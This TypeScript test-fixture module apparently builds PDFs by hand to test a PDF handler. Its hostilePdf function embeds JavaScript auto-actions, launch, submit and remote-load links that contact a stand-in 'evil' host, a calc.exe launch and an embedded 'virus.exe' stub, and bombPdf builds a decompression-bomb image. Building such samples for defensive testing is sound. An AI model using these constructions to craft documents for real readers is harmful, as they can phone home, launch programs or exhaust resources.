// PDF documents for stories, written by hand: nothing else makes such hostile ones.

import { deflateSync } from 'node:zlib';

/** A PDF document of objects, numbered from 1. The first is its catalog. `trailer`: further entries of the trailer. */
export function pdf(objects: readonly string[], trailer = ''): Buffer {
    let text = '%PDF-1.7\n';
    const places = objects.map((object, index) => {
        const place = text.length;
        text += `${index + 1} 0 obj\n${object}\nendobj\n`;
        return place;
    });
    const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
    const size = objects.length + 1;
    return Buffer.from(
        `${text}xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`,
        'latin1',
    );
}

/** A stream with further entries of its dictionary. */
export const stream = (content: string, entries = ''): string =>
    `<< /Length ${content.length} ${entries} >>\nstream\n${content}\nendstream`;

/** Text on a page. */
export const line = (text: string): string => `BT /F1 24 Tf 40 700 Td (${text}) Tj ET`;

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A plain document with a line of text on each page. */
export function plainPdf(lines: readonly string[], trailer = ''): Buffer {
    const kids = lines.map((_, index) => `${4 + index * 2} 0 R`).join(' ');
    const pages = lines.flatMap((text, index) => [
        `<< /Type /Page /Parent 2 0 R /Contents ${5 + index * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        stream(line(text)),
    ]);
    const list = `<< /Type /Pages /Count ${lines.length} /Kids [${kids}] /MediaBox [0 0 595 842] >>`;
    return pdf(['<< /Type /Catalog /Pages 2 0 R >>', list, FONT, ...pages], trailer);
}

/** A document that wants to run programs, open pages, start programs, send forms and load from an address. */
export function hostilePdf(evil: string): Buffer {
    const script = (path: string) =>
        `<< /S /JavaScript /JS (app.alert\\('run'\\); app.launchURL\\('${evil}/${path}'\\);) >>`;
    const link = (action: string) =>
        `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << ${action} >> >>`;
    return pdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('open')} /AA << /WC ${script('close')} >>
            /Names << /JavaScript << /Names [(run) ${script('names')}] >>
                /EmbeddedFiles << /Names [(virus.exe) << /Type /Filespec /F (virus.exe) /EF << /F 9 0 R >> >>] >> >>
            /AcroForm << /Fields [8 0 R] /XFA 10 0 R /NeedAppearances true >> >>`,
        '<< /Type /Pages /Count 1 /Kids [4 0 R] /MediaBox [0 0 595 842] >>',
        // A font's name that tries to become an address, and a font that is somewhere else.
        `<< /Type /Font /Subtype /TrueType /BaseFont /A#29,url#28${evil.replaceAll('/', '#2F')}#2Ffont#29 /FirstChar 32 /LastChar 33 /Widths [250 250] >>`,
        `<< /Type /Page /Parent 2 0 R /Contents 5 0 R /AA << /O ${script('page')} >>
            /Resources << /Font << /F1 3 0 R /F2 7 0 R >> /XObject << /X1 6 0 R >> >>
            /Annots [8 0 R ${link(`/S /URI /URI (${evil}/uri)`)} ${link('/S /Launch /F (calc.exe)')}
                ${link(`/S /GoToR /F << /Type /Filespec /FS /URL /F (${evil}/remote.pdf) >> /D [0 /Fit]`)}
                ${link(`/S /SubmitForm /F << /FS /URL /F (${evil}/submit) >>`)}
                ${link(`/S /ImportData /F << /FS /URL /F (${evil}/import) >>`)}] >>`,
        stream(
            `BT /F2 24 Tf 40 700 Td (Blood pressure 107) Tj /F1 24 Tf 0 -40 Td (!) Tj ET q 100 0 0 100 40 400 cm /X1 Do Q`,
        ),
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0
            /F << /Type /Filespec /FS /URL /F (${evil}/image) >> >>\nstream\n\nendstream`,
        FONT,
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (x) /Rect [40 600 200 620] /AA << /F ${script('format')} /K ${script('key')} >> >>`,
        stream('MZ', '/Type /EmbeddedFile'),
        stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>${evil}</script></template></xdp:xdp>`),
    ]);
}

/** A document that asks for a password. */
export const lockedPdf = (): Buffer => {
    const bytes = `<${'41'.repeat(32)}>`;
    return plainPdf(
        ['secret'],
        `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O ${bytes} /U ${bytes} /P -4 >>`,
    );
};

/** A document with a picture of that many pixels on each side, each one bit. */
export function bombPdf(side: number): Buffer {
    const kids = '<< /Type /Pages /Count 1 /Kids [4 0 R] /MediaBox [0 0 595 842] >>';
    const resources = '/Resources << /Font << /F1 3 0 R >> /XObject << /X1 6 0 R >> >>';
    const image = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 1 /ColorSpace /DeviceGray`;
    return pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        kids,
        FONT,
        `<< /Type /Page /Parent 2 0 R /Contents 5 0 R ${resources} >>`,
        stream(`${line('Before the bomb')} q 500 0 0 500 40 40 cm /X1 Do Q`),
        stream('\0', image),
    ]);
}

/** A document with pages of that size in points, each with its number. */
export function sizedPdf(sizes: readonly (readonly [width: number, height: number])[]): Buffer {
    const kids = sizes.map((_, index) => `${4 + index * 2} 0 R`).join(' ');
    const pages = sizes.flatMap(([width, height], index) => [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents ${5 + index * 2} 0 R
            /Resources << /Font << /F1 3 0 R >> >> >>`,
        stream(`BT /F1 8 Tf 2 10 Td (Sheet ${index + 1}) Tj ET`),
    ]);
    const list = `<< /Type /Pages /Count ${sizes.length} /Kids [${kids}] >>`;
    return pdf(['<< /Type /Catalog /Pages 2 0 R >>', list, FONT, ...pages]);
}

/** A document with many dark pictures of that many pixels on each side, one above the other. */
export function manyPicturesPdf(side: number, count: number): Buffer {
    const numbers = Array.from({ length: count }, (_, index) => index);
    const names = numbers.map((index) => `/X${index} ${6 + index} 0 R`).join(' ');
    const image = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 1 /ColorSpace /DeviceGray`;
    const content = deflateSync(Buffer.alloc((side * side) / 8)).toString('latin1');
    const shown = numbers.map((index) => `q 100 0 0 100 ${40 + index * 110} 40 cm /X${index} Do Q`).join(' ');
    return pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 1 /Kids [4 0 R] /MediaBox [0 0 595 842] >>',
        FONT,
        `<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> /XObject << ${names} >> >> >>`,
        stream(`${line('Before the pictures')} ${shown}`),
        ...numbers.map(() => stream(content, `${image} /Filter /FlateDecode`)),
    ]);
}

/** A document with a table of characters and a font that every reader brings along. */
export function ownFilesPdf(): Buffer {
    const info = '/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >>';
    return pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 595 842] >>',
        '<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> >>',
        stream('BT /F1 24 Tf 40 700 Td <93fa967b> Tj /F2 24 Tf 0 -40 Td (abcdefgh) Tj ET'),
        '<< /Type /Font /Subtype /Type0 /BaseFont /Mincho /Encoding /90ms-RKSJ-H /DescendantFonts [7 0 R] >>',
        '<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>',
        `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Mincho ${info} /FontDescriptor 8 0 R >>`,
        `<< /Type /FontDescriptor /FontName /Mincho /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800
            /Descent 0 /CapHeight 800 /StemV 80 >>`,
    ]);
}
